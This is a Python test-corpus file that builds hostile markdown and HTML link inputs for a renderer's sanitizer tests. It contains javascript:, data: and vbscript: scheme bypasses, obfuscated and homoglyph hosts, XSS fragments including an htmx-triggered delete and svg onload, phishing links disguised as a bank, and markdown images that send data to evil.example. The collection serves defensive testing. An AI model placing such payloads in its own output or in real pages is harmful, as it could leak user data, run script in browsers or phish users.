"""Addresses and links: schemes, broken addresses, marks inside links, data carried out by them."""
# ruff: noqa: E501 - a payload is one line, however long

from tests.hostile.corpus.payload import payloads

ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)", "&#x6a;avascript&colon;alert(1)", "javascript&#58;alert(1)", "%6aavascript:alert(1)", "\x01javascript:alert(1)", "&#1;javascript:alert(1)",
    "\u00a0javascript:alert(1)", "\u200bjavascript:alert(1)", "ｊavascript:alert(1)", "javascript\u200b:alert(1)", "javascript://x.example/%0aalert(1)", "view-source:javascript:1", "feed:javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "DATA:text/html,<script>x</script>", "data:,x", "vbscript:msgbox(1)",
    "file:///etc/passwd", "FILE://host/share", "ftp://evil.example/", "blob:https://x.example/1", "about:blank", "ws://evil.example/", "chrome://settings", "intent://x#Intent;end", "ms-word:ofe|u|https://evil.example/x", "tel:+4712345678", "sms:1", "obsidian://open?vault=x", "mailto:a@b.example?bcc=c@d.example",
    "//evil.example/x", "///evil.example", "/\\evil.example", "\\\\evil.example", "/&#9;/evil.example", "/&#10;/evil.example", "/&bsol;evil.example", "/%09/evil.example", "http:evil.example", "https:/evil.example", "HTTPS://evil.example/", "hTTp://evil.example/", "http&colon;//evil.example", "https:\\\\evil.example",
    "https://localhost@evil.example/", "https://127.0.0.1%2f@evil.example", "https://evil.example#@localhost", "https://xn--80ak6aa92e.com/", "https://аррӏе.com/", "https://evil.example:99999/", "https://0x7f.1/", "https://[::1]:8000/admin/", "https://evil。example/", "#composer", "#\"onclick=x", "?x=1", "", " ", "/accounts/logout/", "/admin/auth/user/add/?is_superuser=1",
]  # fmt: skip
BROKEN = [
    "http://a]/b", "https://[::1/a.png", "//[99]/", "http://[", "http://]", "http://[::1]]/", "http://[v1.x]/", "http://．℀/b", "http://a℀b/", "http://\uff0f/", "https://a\u2100b.example", "http://[fe80::1%25eth0]/", "http://x:y:z/", "http://a:b@c:d@e/", "http://%", "http://%zz/", "http://\ud7ff/", "http:///", "https://.", "https://..", "http://a b/", "http://" + "a" * 3000, "https://" + "a." * 200,
]  # fmt: skip
FORMS = {
    "link": "[x]({})", "pointed": "[x](<{}>)", "image": "![x]({})", "auto": "<{}>", "reference": "[x][r]\n\n[r]: {}", "image reference": "![x][r]\n\n[r]: <{}>", "title": '[x]({} "t")', "element": '<a href="{}">x</a>', "picture": '<img src="{}" alt="x">',
}  # fmt: skip

# Every address as a link and an image, and in one further form.
SCHEMES = [
    payload
    for number, address in enumerate(ADDRESSES)
    for form in ("link", "image", list(FORMS)[3 + number % 6])
    for payload in payloads(
        f"address-{number}-{form.replace(' ', '-')}", [FORMS[form].format(address)]
    )
]
BAD_ADDRESSES = [
    payload
    for number, address in enumerate(BROKEN)
    for form in ("link", "image", "auto", "picture", "image reference")
    for payload in payloads(
        f"broken-{number}-{form.replace(' ', '-')}", [FORMS[form].format(address)]
    )
]
MARKED = payloads(
    "marked",
    [
        '[x](/ "&#57344;1&#57345;<!----!><img src=x>-->")', '[x](/ "&#xe000;1&#xe001;<!----!><img src=x hx-post=/notes/2/delete/ hx-trigger=load>-->")', '[boat](https://e.x "boat repair [1]")', "[boat](https://e.x 'Annika was repaired in May 2021 in the Lund yard [1]')", '[boat](https://e.x "[1]<!----!><img src=x>-->")',
        '[x](/ "[1]")', '[x](/ "[1] [2] [3]")', '![x](https://e.x/p.png "[1]<img src=x>")', "![The boat Annika [1]](https://e.x/p.png)", "[Annika was repaired [1]](https://e.x)", "[1][x]\n\n[x]: / \"[1]\"", '[x]\n\n[x]: https://e.x "The boat Annika was repaired [1]"', "<https://e.x/[1]>", "https://e.x/[1]",
        "[x](https://e.x/[1])", "[x](https://e.x/?q=[1]&r=[2])", "[x](/[1])", "[[1]](/)", "[[1](/)", "[1](/)", "![1](/)", "![[1]](https://e.x/p)", "[^1] text\n\n[^1]: The boat Annika was repaired in May 2021 [1]", "*[1]: abbreviation\n\n[1]", "`[1]` ``[1]``", "\\[1\\] \\[1]", "[1\\]", "&#91;1&#93;", "&lsqb;1&rsqb;", "［1］ [１]", "[​1]",
        "<a href='/' title='[1]'>Annika [1]</a>", "<a title=\"The boat Annika was repaired in May 2021 [1]\" href=/>x</a>", "# The boat Annika was repaired in May 2021 [1]", "| Annika was repaired in May 2021 [1] | [1] |\n|---|---|\n| Lund yard [1] | x |", "**The boat Annika was repaired in May 2021 [1]**", "*[1]*[1]**[1]**", "~~[1]~~ ==[1]== ^[1]^",
        "The boat Annika was repaired in May 2021 (https://e.x/a", "The boat Annika was repaired in May 2021 in Lund https://e.x/p?d=9400", "The boat Annika was repaired in May 2021: ![status](https://e.x/p.png?d=9400", "The boat Annika was repaired [in May](https://e.x \"Lund", "The boat Annika was repaired in May 2021 <b", "Annika May 2021 Lund yard `x", "Annika May 2021 Lund yard [x", "Annika May 2021 Lund yard ![", "Annika May 2021 Lund yard &", "Annika May 2021 Lund yard \\",
    ],
)  # fmt: skip
EXFILTRATION = payloads(
    "exfiltration",
    [
        "![status](http://evil.example/p.png?d=9400)", "![status][s]\n\n[s]: https://evil.example/p.png?d=9400", "[status][s]\n\n[s]: https://evil.example/?d=9400", "![s]\n\n[s]: https://evil.example/p.png?d=9400 'x'", "[![x](https://evil.example/p.png)](https://evil.example/?d=1)", '<img src="https://evil.example/p.png">', "![](https://evil.example/p.png)", "![x](https://evil.example/p.png =1x1)",
        "![x](//evil.example/p.png)", "![x](/\\evil.example/p.png)", "![x](data:image/svg+xml,<svg onload=x>)", "![x](/notes/attachments/1/)", "![x](/accounts/logout/)", "![x](/notes/attachments/1/#https://evil.example)", "![x](HTTPS://evil.example/p.png)", "![x](https://evil.example/p.png\"onerror=\"x)", "<https://evil.example/?d=9400>", "https://evil.example/?d=9400",
        "[https://bank.example](https://evil.example)", "<a href=https://evil.example>https://bank.example</a>", "[click here to sign in again](https://evil.example/login)", "[x](https://evil.example/?q=%5B1%5D)", "![x][]\n\n[x]: https://evil.example/p.png", "![x](<https://evil.example/a b.png>)", "<picture><img src='https://evil.example/p.png'></picture>", "<svg><image href='https://evil.example/p.png'/></svg>",
    ],
)  # fmt: skip
LINKS = [*SCHEMES, *BAD_ADDRESSES, *MARKED, *EXFILTRATION]
